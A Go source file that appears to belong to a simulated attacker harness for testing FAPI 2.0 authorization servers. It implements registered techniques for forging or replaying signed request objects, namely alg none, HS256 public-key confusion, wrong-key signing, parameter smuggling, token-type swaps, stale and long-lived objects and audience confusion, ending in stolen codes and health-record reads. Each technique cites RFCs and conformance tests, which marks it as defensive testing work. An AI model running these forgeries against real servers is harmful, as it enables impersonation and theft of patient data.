package attacker

import (
	"context"
	"fmt"
	"net/http"
	"net/url"
	"time"

	"thiefbox/sim/event"
	"thiefbox/sim/fapi"
)

// The thief pushes a request in the honest client's name. He authenticates with an assertion that he read in
// a log, which tells the server who calls and not what is asked; the request object should tell that. Each row
// spoils one thing about the object. A clinician then follows the link, and he redeems her code with the
// verifier of the challenge he has put in.
func pushedAsClient(id, variant, title, story string, reads []string, has []event.Asset,
	make func(ctx context.Context, p *impersonation) (url.Values, error)) struct{} {
	return register(id, Technique{
		Variant: variant, Title: title, Story: story, Reads: reads, Has: has,
		Needs: []event.Vantage{event.TokenLog, event.FrontHeld}, Against: []Trait{KeyAuth, SignedRequests},
		Run: func(ctx context.Context, g Ground) error {
			p, err := impersonate(ctx, g)
			if err != nil {
				return err
			}
			form, err := make(ctx, p)
			if err != nil {
				return err
			}
			return p.pushAndRedeem(ctx, form)
		},
	})
}

// impersonation is an app in the honest client's name with an assertion that was seen and no key.
type impersonation struct {
	*app
	assertion string
	object    string // the request object that was pushed along with it
	verifier  string
}

func impersonate(ctx context.Context, g Ground) (*impersonation, error) {
	c := noCredentials
	c.ClientID, c.RedirectURI = g.Target().ClientID, g.Target().ClientCallback
	a, err := newApp(ctx, g, c)
	if err != nil {
		return nil, err
	}
	for _, m := range newestFirst(g.Overheard(event.TokenLog)) {
		form, err := url.ParseQuery(string(m.Body))
		if err == nil && form.Has("request") {
			return &impersonation{a, form.Get("client_assertion"), form.Get("request"), g.Random()}, nil
		}
	}
	return nil, fmt.Errorf("no pushed request object was overheard at %s", event.TokenLog)
}

// parameters are those of a correct request, with a challenge whose verifier the thief knows.
func (p *impersonation) parameters() url.Values {
	return url.Values{
		"response_type": {"code"}, "client_id": {p.creds.ClientID}, "redirect_uri": {p.creds.RedirectURI},
		"scope": {"openid user/*.rs"}, "state": {p.g.Random()}, "nonce": {p.g.Random()}, "response_mode": {"jwt"},
		"code_challenge": {fapi.Hash(p.verifier)}, "code_challenge_method": {"S256"},
	}
}

// authenticated adds the assertion to each request.
func (p *impersonation) authenticated(_ *http.Request, form url.Values) {
	addAssertion(form, p.assertion)
}

// pushAndRedeem pushes a form, lures a clinician to it, redeems her code and reads a record.
func (p *impersonation) pushAndRedeem(ctx context.Context, form url.Values) error {
	uri, err := p.push(ctx, form, p.authenticated)
	if err != nil {
		return err
	}
	code, err := p.lure(authorization{url: p.front(uri)})
	if err != nil {
		return err
	}
	return p.cashIn(ctx, code, p.verifier)
}

func (p *impersonation) cashIn(ctx context.Context, code, verifier string) error {
	t, err := p.token(ctx, url.Values{
		"grant_type": {"authorization_code"}, "code": {code}, "redirect_uri": {p.creds.RedirectURI}, "code_verifier": {verifier},
	}, p.authenticated)
	if err != nil {
		return err
	}
	_, err = p.read(ctx, record(p.g, stranger(p.g)), t)
	return err
}

var _ = pushedAsClient("P-09", "unsigned", "A plain request where a signed one is due",
	"The thief has a used assertion of the EHR's from a log and no key of its. He pushes a request as it was done before requests were "+
		"signed, and asks for an unsigned answer, as it was done then.",
	[]string{"FAPI 2.0 MS 5.3.1-1, 5.4.1", "RFC 9101 s10.5", "OIDF conformance suite, ensure-unsigned-request-at-par-endpoint-fails"}, nil,
	func(_ context.Context, p *impersonation) (url.Values, error) {
		plain := p.parameters()
		plain.Del("response_mode")
		return plain, nil
	})

var _ = pushedAsClient("P-10", "alg-none", "A request object with alg none",
	"He writes a request object in the EHR's name, with no algorithm and no signature.",
	[]string{"FAPI 2.0 SP 5.4.1-3", "OIDF conformance suite, ensure-request-object-signature-algorithm-is-not-none"}, nil,
	func(_ context.Context, p *impersonation) (url.Values, error) {
		forged, err := fapi.ForgeUnsigned(fapi.Header{Typ: fapi.TypRequest}, p.requestObject(p.parameters()))
		return url.Values{"request": {forged}}, err
	})

var _ = pushedAsClient("P-10/public-key", "public-key-as-secret", "A request object signed with the client's public key as a shared secret",
	"He writes a request object in the EHR's name with the algorithm HS256, for which a careless library takes the EHR's public key as the secret.",
	[]string{"FAPI 2.0 SP 5.4.1-2", "RFC 9101 s6.2", "RFC 8725 s2.1"}, nil,
	func(_ context.Context, p *impersonation) (url.Values, error) {
		key, err := clientsKey(p.g)
		if err != nil {
			return nil, err
		}
		forged, err := fapi.ForgeHMAC(fapi.Header{Typ: fapi.TypRequest, Kid: key.ID}, p.requestObject(p.parameters()), *key)
		return url.Values{"request": {forged}}, err
	})

var _ = pushedAsClient("P-10/signature", "own-key", "A request object signed by the thief",
	"He writes a request object in the EHR's name and signs it with a key of his own.",
	[]string{"FAPI 2.0 MS 5.3.1-1", "RFC 9101 s6.2", "OIDF conformance suite, ensure-request-object-with-invalid-signature-fails"}, nil,
	func(_ context.Context, p *impersonation) (url.Values, error) {
		forged, err := p.requestObject(p.parameters()).Sign(p.g.Key("request"), fapi.TypRequest)
		return url.Values{"request": {forged}}, err
	})

var _ = pushedAsClient("P-11", "other-client", "A request object signed by another client's key",
	"The thief has an app of his own, honestly registered. He signs a request of the EHR's with the key of his app, and says so.",
	[]string{"RFC 9101 s6.2", "OIDF conformance suite, ensure-matching-key-in-authorization-request"}, []event.Asset{event.OwnClient},
	func(ctx context.Context, p *impersonation) (url.Values, error) {
		own, err := ownApp(ctx, p.g)
		if err != nil {
			return nil, err
		}
		object := p.requestObject(p.parameters())
		object.Issuer = own.creds.ClientID // the one thing wrong: it is issued by one client, and about another
		forged, err := object.Sign(own.auth, fapi.TypRequest)
		return url.Values{"request": {forged}}, err
	})

var _ = pushedAsClient("P-06", "beside-the-object", "A parameter beside the request object",
	"He pushes a request object of the EHR's from the log, as it is, and writes beside it what he wants changed: the PKCE challenge.",
	[]string{"RFC 9101 s5, s6.3, s10.7", "RFC 9126 s3"}, nil,
	func(_ context.Context, p *impersonation) (url.Values, error) {
		return url.Values{"request": {p.object}, "code_challenge": {fapi.Hash(p.verifier)}}, nil
	})

var _ = pushedAsClient("P-12/reverse", "assertion-as-request", "A client assertion in place of a request object",
	"The assertion from the log is signed by the EHR's key, too, and addressed to the server. He pushes it as the request object, with "+
		"every parameter beside it.",
	[]string{"RFC 9101 s10.8", "RFC 8725 s2.8, s3.11"}, nil,
	func(_ context.Context, p *impersonation) (url.Values, error) {
		form := p.parameters()
		form.Set("request", p.assertion)
		return form, nil
	})

var _ = register("P-12", Technique{
	Variant: "as-client-assertion",
	Title:   "A request object in place of a client assertion",
	Story: "The thief has a request object of the EHR's from a log, and presents it as client authentication. Both are signed with the same " +
		"key and addressed to the same server; what a request object lacks is a subject.",
	Reads: []string{"RFC 9101 s10.8", "OIDF conformance suite, ensure-client-assertion-with-no-sub-fails"},
	Needs: []event.Vantage{event.TokenLog}, Against: []Trait{KeyAuth, SignedRequests},
	Run: func(ctx context.Context, g Ground) error {
		p, err := impersonate(ctx, g)
		if err != nil {
			return err
		}
		return actAsClient(ctx, g, p.object)
	},
})

var _ = register("P-13", Technique{
	Variant: "found-later",
	Title:   "An old request object is pushed again",
	Story: "The thief finds a request object in a log ten minutes after it was used, and has an assertion that somebody at the EHR's " +
		"keyboard had signed for him. He pushes the old request anew, signs in with his own account, and has the clinician's browser " +
		"deliver the answer: it is the request she began.",
	Reads: []string{"FAPI 2.0 MS 5.3.1-4", "OIDF conformance suite, ensure-expired-request-object-fails"},
	Needs: []event.Vantage{event.TokenLog}, Has: []event.Asset{event.Signed}, Against: []Trait{KeyAuth, SignedRequests},
	Run: func(ctx context.Context, g Ground) error {
		p, err := withAssertionInAdvance(ctx, g)
		if err != nil {
			return err
		}
		g.Wait(10 * time.Minute)
		uri, err := p.push(ctx, url.Values{"request": {p.object}}, p.authenticated)
		if err != nil {
			return err
		}
		return finishAsThief(ctx, g, []event.Message{{URL: p.front(uri)}})
	},
})

// withAssertionInAdvance is an impersonation whose assertion stays good for a year.
func withAssertionInAdvance(ctx context.Context, g Ground) (*impersonation, error) {
	p, err := impersonate(ctx, g)
	if err != nil {
		return nil, err
	}
	a, err := signedInAdvance(g)
	p.assertion = a.AssertionLong
	return p, err
}

// A request object that the client's key was made to sign for later, used after a while.
func requestInAdvance(id, variant, title, story string, wait time.Duration, clause, module string, which func(advance) string) struct{} {
	return register(id, Technique{
		Variant: variant, Title: title, Story: story,
		Reads: []string{"FAPI 2.0 MS " + clause, "OIDF conformance suite, " + module},
		Needs: []event.Vantage{event.TokenLog, event.FrontHeld}, Has: []event.Asset{event.Signed}, Against: []Trait{KeyAuth, SignedRequests},
		Run: func(ctx context.Context, g Ground) error {
			p, err := withAssertionInAdvance(ctx, g)
			if err != nil {
				return err
			}
			a, err := signedInAdvance(g)
			if err != nil {
				return err
			}
			p.verifier = a.RequestVerifier
			g.Wait(wait)
			return p.pushAndRedeem(ctx, url.Values{"request": {which(a)}})
		},
	})
}

var _ = requestInAdvance("P-13/lifetime", "long-lived", "A request object that is good for a year",
	"For one minute the thief sits at the client's keyboard. He has its key sign a request of his own making that expires in a year, and "+
		"uses it half an hour later.", 30*time.Minute, "5.3.1-4", "ensure-request-object-with-exp-over-60-fails", func(a advance) string { return a.RequestLong })

var _ = requestInAdvance("P-13/stockpiled", "stockpiled", "A request object from last month",
	"As with one that is good for a year, but he waits for a month.", 30*24*time.Hour,
	"5.3.1-3", "ensure-request-object-with-nbf-over-60-fails", func(a advance) string { return a.RequestLong })

var _ = requestInAdvance("P-13/endless", "without-expiry", "A request object that never expires",
	"As with one that is good for a year, but it does not say until when it is good.", 30*time.Minute,
	"5.3.1-4", "ensure-request-object-without-exp-fails", func(a advance) string { return a.RequestEndless })

var _ = requestInAdvance("P-13/undated", "without-beginning", "A request object that does not say when it begins",
	"As with one that is good for a year, but it is good for an hour and does not say from when: nobody can tell how old it is.", 30*time.Minute,
	"5.3.1-3", "ensure-request-object-without-nbf-fails", func(a advance) string { return a.RequestUndated })

var _ = register("X-05/request", Technique{
	Variant: "for-another-server",
	Title:   "A request object made for another server",
	Story: "The thief begins a sign-in at the regional server, which is his, and so gets a request of the EHR's that is meant for it. He pushes " +
		"it at the honest server with an assertion that somebody at the EHR's keyboard had signed for him. A clinician follows the link; " +
		"he brings her answer to the EHR in his own browser, and the EHR carries the code to his server.",
	Reads: []string{"FAPI 2.0 MS 5.3.1-2", "ePrint 2025/629", "OIDF conformance suite, ensure-request-object-with-bad-aud-fails"},
	Needs: []event.Vantage{event.TokenLog, event.FrontHeld, event.RogueAS}, Has: []event.Asset{event.Signed}, Against: []Trait{KeyAuth, SignedRequests},
	Run: func(ctx context.Context, g Ground) error {
		p, err := withAssertionInAdvance(ctx, g)
		if err != nil {
			return err
		}
		t, ro := g.Target(), newRogue(g)
		ro.open()
		// His browser is sent to his server, and goes no further.
		if _, err := g.Browser().Visit(ctx, t.ClientLogin+ro.meta.Issuer, ro.meta.AuthorizationEndpoint); err != nil {
			return err
		}
		uri, err := p.push(ctx, url.Values{"request": {ro.lastPushed().Get("request")}}, p.authenticated)
		if err != nil {
			return err
		}
		answer, err := p.lureForAnswer(p.front(uri))
		if err != nil {
			return err
		}
		if _, err := g.Browser().Visit(ctx, answer, ""); err != nil {
			return err
		}
		got := ro.lastToken()
		if got.Get("code") == "" {
			return ErrStopped
		}
		return p.cashIn(ctx, got.Get("code"), got.Get("code_verifier"))
	},
})
